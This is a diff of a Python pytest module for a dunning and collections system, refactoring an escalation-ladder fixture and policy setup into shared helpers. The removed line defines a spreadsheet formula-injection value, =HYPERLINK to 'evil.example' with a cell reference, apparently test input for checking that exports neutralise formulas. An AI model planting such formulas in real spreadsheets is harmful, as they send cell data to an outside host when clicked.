@@ -12,22 +12,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-import yaml
 from pypdf import PdfReader
 
 from tests.conftest import Portfolio, query
-from tests.helpers import as_json, cli, day, outbox, run
+from tests.helpers import COURT_LADDER, HYPERLINK, as_json, change_policy, cli, day, outbox, run
 
 pytestmark = pytest.mark.usefixtures("prefect_server")
-HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-LADDER = [
-    {"name": "friendly_reminder", "channel": "email", "days_after_due": 3,
-     "template": "friendly_reminder"},
-    {"name": "formal_notice", "channel": "letter", "days_after_due": 10,
-     "requires_approval": True, "template": "formal_notice"},
-    {"name": "injunction", "channel": "injunction", "days_after_due": 20,
-     "min_days_since_previous": 3, "requires_approval": True},
-]
 
 
 @pytest.fixture
@@ -35,10 +25,8 @@ def letters_dir(workdir: Path, policy_file: Path, monkeypatch: pytest.MonkeyPatc
     folder = workdir / "letters"
     monkeypatch.setenv("DUNNING_LETTERS_DIR", str(folder))
     monkeypatch.setenv("DUNNING_INJUNCTIONS_DIR", str(workdir / "court"))
-    data = yaml.safe_load(policy_file.read_text(encoding="utf-8"))
-    data["stages"] = LADDER
-    data["law"] = {"rate": "12.15"}  # the 2026-H2 reference rate is not in rates.yaml yet
-    policy_file.write_text(yaml.safe_dump(data), encoding="utf-8")
+    # the 2026-H2 reference rate is not in rates.yaml yet
+    change_policy(policy_file, stages=COURT_LADDER, law={"rate": "12.15"})
     return folder
 
 
